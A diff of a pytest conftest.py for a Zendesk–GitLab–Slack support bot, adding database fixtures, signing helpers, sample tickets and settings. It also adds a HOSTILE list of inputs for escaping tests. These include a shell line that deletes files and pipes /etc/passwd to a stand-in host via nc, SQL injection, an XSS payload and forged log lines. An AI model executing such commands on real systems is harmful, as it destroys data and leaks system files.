@@ -1,24 +1,42 @@
-"""Shared fixtures: settings, a migrated database per test (SQLite file or PostgreSQL), signed posting helpers."""
+"""Fixtures and helpers shared by every test folder: paths, settings, a database per test (SQLite file or
+PostgreSQL), the web app, signed posting helpers and the inputs several folders use.
+
+Folder-only fixtures live in that folder's conftest.py: flow/ (the in-process sandbox stack), handlers/ (the
+recording fake runtime), services/ (webhook receiver, `responses` helpers), e2e/ (real processes).
+Test files import helpers from here as `from tests.conftest import ...`.
+"""
 from __future__ import annotations
 
 import json
 import os
+import shutil
+import socket
+import sys
 import uuid
-from datetime import datetime, timezone
+from datetime import date, datetime, timezone
 from pathlib import Path
 from urllib.parse import urlencode
 
 import pytest
 import sqlalchemy as sa
+from sqlalchemy.engine import make_url
 
-from bot.web.app import create_app
-from bot.db.engine import make_engine, upgrade
+from bot.case.machine import Trigger
+from bot.case.store import Store
+from bot.db.engine import make_engine, make_sessionmaker, upgrade
+from bot.rules.loader import Rules, load_rules
 from bot.settings import Settings
+from bot.web.app import create_app
 from bot.web.signatures import sign_slack, sign_zendesk
 
-ROOT = Path(__file__).resolve().parent.parent
+# Test files written before the folders existed say `from conftest import ...`: the same module answers them.
+sys.modules.setdefault("conftest", sys.modules[__name__])
+
+TESTS = Path(__file__).resolve().parent
+ROOT = TESTS.parent
 SHARED = ROOT.parent / "shared"
-FIXTURES = Path(__file__).resolve().parent / "fixtures"
+FIXTURES = TESTS / "fixtures"
+DATA = TESTS / "data"
 PG_ADMIN_URL = os.environ.get("BOT_TEST_PG_URL", "postgresql://postgres@127.0.0.1:5432/test")
 
 SECRETS = dict(zendesk_webhook_secret="zd-test-secret", gitlab_webhook_token="gl-test-token",
@@ -43,9 +61,39 @@ def pg_available() -> bool:
         return False
 
 
+def free_port() -> int:
+    """A loopback port nobody listens on (right now)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+# --- databases -------------------------------------------------------------------------------------------------
+
 @pytest.fixture
 def sqlite_url(tmp_path) -> str:
     return f"sqlite:///{tmp_path / 'bot.db'}"
+
+
+@pytest.fixture(scope="session")
+def migrated_template(tmp_path_factory) -> Path:
+    """One SQLite file with every migration applied, made once per test process (copied, never used directly)."""
+    path = tmp_path_factory.mktemp("template") / "bot.db"
+    upgrade(f"sqlite:///{path}")
+    assert not path.with_name(path.name + "-wal").exists(), "the template must be complete in its one file"
+    return path
+
+
+def migrated_copy(template: Path, url: str) -> str:
+    """Put a copy of the migrated template where `url` points (instead of running the migrations again)."""
+    shutil.copyfile(template, make_url(url).database)
+    return url
+
+
+@pytest.fixture
+def migrated_sqlite_url(sqlite_url, migrated_template) -> str:
+    """Like sqlite_url, but the file already carries the schema (a copy: milliseconds, not an Alembic run)."""
+    return migrated_copy(migrated_template, sqlite_url)
 
 
 @pytest.fixture
@@ -73,15 +121,41 @@ def db_url(request, tmp_path):
     return request.getfixturevalue("pg_url")
 
 
+@pytest.fixture(scope="session")
+def rules() -> Rules:
+    """The built-in rules, loaded once (tests that tune them work on a deep copy)."""
+    return load_rules()
+
+
+def make_cases(url: str) -> Store:
+    """Three cases in three states (awaiting_customer, info_received with two tickets, cancelled)."""
+    upgrade(url)
+    store = Store(make_sessionmaker(make_engine(url)))
+    common = dict(paid="self_managed", target="saas", requester_id="7", reason="why", confidence=0.9,
+                  partner_managed=False, partner_name=None)
+    first, _ = store.create_case(org_id="501", org_name="Crannock", trigger=Trigger.DETECT_SURE, ticket_id="11",
+                                 level=None, target_date=None, **common)
+    store.transition(first.id, Trigger.ASK_SENT)
+    second, _ = store.create_case(org_id="502", org_name="Brightwater", trigger=Trigger.DETECT_SURE, ticket_id="12",
+                                  level="ultimate", target_date=date(2027, 3, 1), **common)
+    store.transition(second.id, Trigger.INFO_STATED)
+    store.add_ticket(second.id, "13", "8")
+    third, _ = store.create_case(org_id="503", org_name="Halvard", trigger=Trigger.DETECT_UNSURE,
+                                 ticket_id="14", level=None, target_date=None, **common)
+    store.transition(third.id, Trigger.DISMISS)
+    return store
+
+
+# --- the web app ---------------------------------------------------------------------------------------------------
+
 @pytest.fixture
 def settings(sqlite_url) -> Settings:
     return Settings(database_url=sqlite_url, **SECRETS)
 
 
 @pytest.fixture
-def engine(settings):
-    upgrade(settings.database_url)
-    eng = make_engine(settings.database_url)
+def engine(settings, migrated_template):
+    eng = make_engine(migrated_copy(migrated_template, settings.database_url))
     yield eng
     eng.dispose()
 
@@ -95,6 +169,8 @@ def app(settings, engine):
 def client(app):
     return app.test_client()
 
+
+# --- payloads and signatures ----------------------------------------------------------------------------------
 
 def load_fixture(name: str) -> bytes:
     """A captured-shape payload from tests/fixtures/<source>/<event>__<variant>.json, as raw bytes."""
@@ -113,12 +189,17 @@ def gitlab_headers(event: str = "Issue Hook", token: str = SECRETS["gitlab_webho
             "X-Gitlab-Event-UUID": str(uuid.uuid4())}
 
 
+def slack_headers(body: bytes, secret: str = SECRETS["slack_signing_secret"], ts: int | None = None) -> dict:
+    """Slack's v0 signature over a form body, stamped now."""
+    stamp = str(ts or int(datetime.now(timezone.utc).timestamp()))
+    return {"Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": stamp,
+            "X-Slack-Signature": sign_slack(secret, stamp, body)}
+
+
 def slack_body_and_headers(payload: dict, secret: str = SECRETS["slack_signing_secret"],
                            ts: int | None = None) -> tuple[bytes, dict]:
     body = urlencode({"payload": json.dumps(payload)}).encode()
-    stamp = str(ts or int(datetime.now(timezone.utc).timestamp()))
-    return body, {"Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": stamp,
-                  "X-Slack-Signature": sign_slack(secret, stamp, body)}
+    return body, slack_headers(body, secret, ts)
 
 
 def zendesk_event(event_type: str, ticket_id: int = 101, org_id: int = 501, event: dict | None = None,
@@ -141,3 +222,60 @@ def zendesk_event(event_type: str, ticket_id: int = 101, org_id: int = 501, even
         "type": f"zen:event-type:{event_type}",
         "zendesk_event_version": "2022-11-06",
     }
+
+
+# --- inputs used in more than one folder ----------------------------------------------------------------------
+
+# Tickets several folders use (flow/ through the sandbox, handlers/ through the fake runtime).
+MIGRATION = ("Pipelines stuck on GitLab.com after moving off our self-managed server",
+             "Hi, we are migrating from our self-managed GitLab instance to GitLab.com (SaaS) and have moved our\n"
+             "first group over to gitlab.com. Pipelines on gitlab.com now sit in pending: 'This job is stuck\n"
+             "because you don't have any active runners'. How do we use the shared runners on GitLab.com?\n-- Jana")
+ORDINARY = ("Gitaly CPU at 100%", "Our self-managed Gitaly node CPU is pegged at 100% during business hours.\n"
+            "Top RPCs are from CI clones. Should we enable the pack-objects cache on our instance?")
+# `migration-bot classify` answers "ask" for this one: the move is stated, the problem only weakly located.
+UNSURE = ("Moving to SaaS", "We are moving to GitLab.com SaaS. Our users get an error when logging in. Please advise.")
+
+# Customer text that has broken parsers, databases, log lines and markup before (web/ stores it, unit/ escapes it).
+HOSTILE = [
+    "$(rm -rf /) `id` ; cat /etc/passwd | nc evil 1 && echo $HOME > /tmp/x",
+    "Robert'); DROP TABLE inbox; -- \" OR 1=1 --",
+    "line one\nERROR bot: forged log line\r\n\x1b[2J\x1b[31mred\x1b[0m",
+    "<!channel> <!here> <@U123> <#C999|general> <http://evil.example|click here> *bold* &amp;",
+    "| broken | table |\n<img src=x onerror=alert(1)> @all @someone #1 !2 ~\"offering-migration::approved\"",
+    "\u202eevil\u202c \u200b zero-width, NUL-free unicode: héllo wörld 日本語 🚀",
+]
+HOSTILE_NAMES = ["shell", "sql", "log", "slack", "markdown", "unicode"]
+
+# The command line's inputs (unit/test_cli.py runs them in process, e2e/test_cli_subprocess.py as a command).
+CLI_TICKETS = [
+    {"id": "T-move", "today": "2026-11-23", "org": {"name": "Crannock", "tags": ["sm_premium", "emea"]},
+     "ticket": {"subject": "Pipelines stuck on GitLab.com after moving off our self-managed server",
+                "description": "We are migrating from our self-managed GitLab instance to GitLab.com (SaaS). "
+                               "Pipelines on gitlab.com sit in pending: no active runners. How do we use the "
+                               "shared runners on GitLab.com?",
+                "tags": ["sm_premium"], "offering_field": "saas", "comments": []},
+     "expect": {"offering_migration": True}},
+    {"id": "T-plain", "today": "2026-11-23", "org": {"name": "Quiet", "tags": ["sm_ultimate"]},
+     "ticket": {"subject": "Gitaly CPU at 100%", "description": "Our self-managed Gitaly node CPU is pegged at 100%.",
+                "tags": [], "offering_field": None, "comments": []}},
+    {"id": "T-free", "today": "2026-11-23", "org": {"name": "Nobody", "tags": ["emea"]},
+     "ticket": {"subject": "Help", "description": "We moved to GitLab.com and runners are stuck.", "tags": [],
+                "offering_field": None, "comments": []}},
+]
+# A complete, valid set of settings for the commands that need one.
+CLI_SETTINGS = {
+    "ZENDESK_URL": "http://127.0.0.1:9100/zd", "ZENDESK_EMAIL": "bot@example.com", "ZENDESK_API_TOKEN": "t",
+    "ZENDESK_WEBHOOK_SECRET": "s", "GITLAB_URL": "http://127.0.0.1:9101", "GITLAB_TOKEN": "g",
+    "GITLAB_PROJECT": "support-ops/offering-migrations", "GITLAB_WEBHOOK_TOKEN": "w",
+    "SLACK_API_URL": "http://127.0.0.1:9102/api/", "SLACK_BOT_TOKEN": "xoxb-1", "SLACK_SIGNING_SECRET": "ss"}
+
+
+def read_jsonl(*paths: Path) -> list[dict]:
+    """Every JSON line of the given files, in order (the corpus and evaluation-set format)."""
+    return [json.loads(line) for p in paths for line in p.read_text(encoding="utf-8").splitlines() if line.strip()]
+
+
+def lines_of(text: str) -> list[dict]:
+    """JSON lines output, parsed."""
+    return [json.loads(line) for line in text.splitlines() if line.strip()]
